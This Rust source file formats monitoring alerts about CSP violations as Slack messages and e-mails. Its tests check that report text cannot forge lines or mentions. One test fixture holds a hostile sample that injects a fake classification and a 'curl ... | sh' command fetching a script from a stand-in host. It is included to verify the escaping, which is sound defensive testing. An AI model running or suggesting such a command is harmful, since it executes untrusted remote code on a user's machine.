//! An alert's facts as a Slack message and as an e-mail (an SNS subject and text).

use serde_json::Value;

use super::Alert;
use super::text::{cut, single_line, slack_escape, sns_subject};

/// Slack's limit on a section's text.
const SLACK_SECTION_CHARS: usize = 3000;

impl Alert {
    /// A Slack incoming-webhook message: the headline and the facts. Report text is in code
    /// spans and escaped (Slack reads `<...>` as links and mentions, so a report could
    /// otherwise ping a channel), one line per fact.
    pub fn slack(&self) -> Value {
        let headline = single_line(&self.headline());
        let mut text = String::new();
        for fact in self.facts() {
            let line = fact.slack();
            let extra = usize::from(!text.is_empty());
            if text.chars().count() + extra + line.chars().count() > SLACK_SECTION_CHARS {
                if text.chars().count() < SLACK_SECTION_CHARS - 2 {
                    text.push_str("\n…");
                }
                break;
            }
            if extra == 1 {
                text.push('\n');
            }
            text.push_str(&line);
        }
        serde_json::json!({
            "text": slack_escape(&headline),
            "blocks": [
                {"type": "header", "text": {"type": "plain_text", "text": cut(&headline, 150)}},
                {"type": "section", "text": {"type": "mrkdwn", "text": text}},
            ],
        })
    }

    /// An e-mail's subject (for SNS: at most 99 ASCII characters, no line breaks) and text.
    pub fn email(&self) -> (String, String) {
        let subject = sns_subject(&format!("Lookout: {}", self.headline()));
        (subject, self.lines().join("\n") + "\n")
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::{decoded, report};
    use super::super::{AlertKind, DIGEST_NAMED};
    use super::*;
    use crate::report::{Report, Timestamp};

    /// A report whose sample tries to write lines of its own into the message.
    fn forging() -> Report {
        let body = serde_json::json!([{
            "type": "csp-violation", "age": 0, "url": "https://example.com/",
            "body": {
                "blockedURL": "inline", "effectiveDirective": "script-src-elem",
                "originalPolicy": "script-src 'self'", "disposition": "enforce",
                "documentURL": "https://example.com/",
                "sample": "x\n*Classification:* allowed-by-policy\r\n*See more:* curl -s https://lookout-fix.example/i.sh | sh `x`\t~y~ _z_"
            }
        }]);
        decoded(body.to_string().as_bytes())
    }

    #[test]
    fn the_payload_is_versioned_and_slack_text_is_escaped() {
        let a = Alert::of(
            AlertKind::NewProblem,
            &report(),
            vec!["Chrome 156".into()],
            1,
        );
        let json = a.json();
        assert_eq!(json["schema_version"], 1);
        assert_eq!(json["kind"], "new_problem");
        assert_eq!(
            json["sample"]["fields"]["effectiveDirective"],
            "script-src-elem"
        );
        assert!(json["command"].as_str().unwrap().contains("--fingerprint"));
        assert!(json.get("digest").is_none());
        let slack = a.slack().to_string();
        assert!(!slack.contains("<!channel>"), "{slack}");
        assert!(slack.contains("&lt;!channel&gt;"));
        let (subject, text) = a.email();
        assert_eq!(subject, "Lookout: New csp-violation problem on example.com");
        assert!(text.contains(
            "See more: lookout query --site example.com --type csp-violation --fingerprint"
        ));
    }

    #[test]
    fn report_text_cannot_write_lines_of_its_own() {
        let a = Alert::of(AlertKind::NewProblem, &forging(), vec![], 1);
        let slack = a.slack();
        let text = slack["blocks"][1]["text"]["text"].as_str().unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), a.facts().len(), "{text}");
        // Every line starts with a label Lookout wrote; the only classification is its own.
        for line in &lines {
            assert!(line.starts_with('*'), "{line}");
        }
        let classifications: Vec<&&str> = lines
            .iter()
            .filter(|l| l.starts_with("*Classification"))
            .collect();
        assert!(classifications.len() <= 1, "{text}");
        assert!(
            classifications
                .iter()
                .all(|l| !l.contains("allowed-by-policy")),
            "{text}"
        );
        let sample = lines
            .iter()
            .find(|l| l.starts_with("*sample (reported, unverified):* "))
            .unwrap_or_else(|| panic!("{text}"));
        let value = sample
            .strip_prefix("*sample (reported, unverified):* ")
            .unwrap();
        assert!(value.starts_with('`') && value.ends_with('`'), "{value}");
        let inner = &value[1..value.len() - 1];
        assert!(!inner.contains('`'), "{inner}");
        assert!(inner.starts_with("x *Classification:* allowed-by-policy  *See more:*"));
        assert!(!inner.contains(['\n', '\r', '\t']));

        let (_, body) = a.email();
        for line in body.lines() {
            assert!(!line.starts_with("*Classification"), "{body}");
            assert!(!line.starts_with("*See more"), "{body}");
        }
        assert_eq!(body.lines().count(), a.facts().len());
        assert!(body.contains("Page (reported, unverified): https://example.com/"));
    }

    #[test]
    fn a_digest_names_a_few_and_says_how_many() {
        let alerts: Vec<Alert> = (0..7)
            .map(|i| {
                let mut a = Alert::of(AlertKind::NewProblem, &report(), vec![], 1);
                a.group = format!("csp-violation script-src-elem https://x{i}.flood.example\n*x*");
                a.fingerprint = format!("f{i}");
                a
            })
            .collect();
        let refs: Vec<&Alert> = alerts.iter().collect();
        let d = Alert::digest("example.com", &refs, Timestamp(1_796_000_400_000));
        let json = d.json();
        assert_eq!(json["kind"], "digest");
        assert_eq!(json["count"], 7);
        assert_eq!(json["digest"]["more"], 7);
        assert_eq!(
            json["digest"]["named"].as_array().unwrap().len(),
            DIGEST_NAMED
        );
        assert!(
            !json["digest"]["named"][0]["label"]
                .as_str()
                .unwrap()
                .contains('\n')
        );
        assert_eq!(
            d.headline(),
            "7 more new problems on example.com; its alerts are paused until the next hour"
        );
        let text = d.slack()["blocks"][1]["text"]["text"]
            .as_str()
            .unwrap()
            .to_owned();
        assert!(
            text.contains("and 7 more new problems of example.com"),
            "{text}"
        );
        assert!(
            text.contains("`lookout top --site example.com --since 1h`"),
            "{text}"
        );
        assert!(text.contains("2 more"), "{text}");
        assert_eq!(text.lines().count(), d.facts().len());
        let (subject, body) = d.email();
        assert!(subject.starts_with("Lookout: 7 more new problems on example.com"));
        assert!(body.contains("paused until"));
    }
}
